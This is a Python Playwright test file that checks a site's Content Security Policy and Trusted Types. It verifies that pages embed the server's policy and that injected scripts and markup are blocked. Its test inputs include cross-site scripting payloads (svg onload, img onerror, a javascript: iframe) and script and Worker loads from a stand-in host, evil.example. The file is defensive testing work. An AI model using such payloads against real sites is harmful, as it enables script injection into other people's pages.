"""The policy that guards a page stands in it, and is the one that our own server sends."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest

from conf.server import policy

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Page

    from tests.browser.conftest import Visitor

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
# What Firefox fetches ahead, for which the policy has no word.
AHEAD = re.compile(r'<link[^>]*rel="(?:next|prev|prefetch|prerender|dns-prefetch|preconnect)"')


def test_every_page_says_what_the_server_says(site: Path) -> None:
    """To the letter and before any script, so that it is as safe where no header is sent."""
    pages = [p for p in site.rglob("*.html") if "_static" not in p.parts]
    assert len(pages) > 100
    for page in pages:
        text = page.read_text("utf-8")
        (value,) = META.finditer(text)
        assert value[1] == policy(page.read_bytes()), page
        assert "<script" not in text[: value.start()], page
        assert not AHEAD.search(text), page


def test_the_policy_in_the_page_holds_by_itself(visit: Visitor) -> None:
    """Without the header, a script that was slipped in does not run, and the board plays."""

    def bare(page: Page) -> None:
        def answer(route):  # noqa: ANN001, ANN202
            reply = route.fetch()
            headers = {k: v for k, v in reply.headers.items() if "security-policy" not in k}
            slipped = reply.text().replace("</body>", "<script>window.slipped = 1</script></body>")
            route.fulfill(response=reply, headers=headers, body=slipped)

        page.route("**/*.html", answer)

    seen = visit("dados/azar.html", before=bare)
    assert seen.page.evaluate("window.slipped") is None
    assert len(seen.complaints) == 1
    assert "Content Security Policy" in seen.complaints.pop()
    board = seen.board()
    board.play()
    board.throw()


HOSTILE = """<p>words</p><svg onload="ran = 1"><script>window.ran = 2</script></svg>
<img src="data:," onerror="window.ran = 3"><iframe src="javascript:parent.ran = 4"></iframe>"""


@pytest.mark.parametrize("page", ["dados/azar.html", "play/azar.html", "search.html"])
def test_no_text_becomes_markup_or_a_script_but_by_our_own_policies(
    visit: Visitor, page: str
) -> None:
    """What takes markup refuses a text; no policy can be added; what is drawn runs nothing."""
    seen = visit(page)
    here = seen.page
    refused = """hostile => [
        () => { document.body.innerHTML = hostile },
        () => document.body.insertAdjacentHTML("beforeend", hostile),
        () => new DOMParser().parseFromString(hostile, "text/html"),
        () => { document.createElement("script").text = "window.ran = 6" },
        () => { document.createElement("script").src = "https://evil.example/x.js" },
        () => new Worker("https://evil.example/x.js"),
        () => trustedTypes.createPolicy("default", { createHTML: (text) => text }),
    ].map(act => { try { act(); return "done" } catch ({ name }) { return name } })"""
    assert set(here.evaluate(refused, HOSTILE)) == {"TypeError"}
    drawn = """async (hostile) => {
        const { src } = document.querySelector("script[src*='/widget-']");
        const { nodesOf } = await import(src.replace(/[^/]*$/, "trusted-types.mjs"));
        const { ofScript } = await import(src.replace(/[^/]*$/, "client.mjs"));
        document.body.append(...nodesOf(hostile));
        await new Promise((done) => setTimeout(done, 500));
        try { ofScript(new URL("https://evil.example/x.js")); return "taken" }
        catch { return String(window.ran) }
    }"""
    assert here.evaluate(drawn, HOSTILE) == "undefined"
    assert [
        item for item in seen.complaints if "Trusted" not in item and "Content Security" not in item
    ] == []
    seen.complaints.clear()
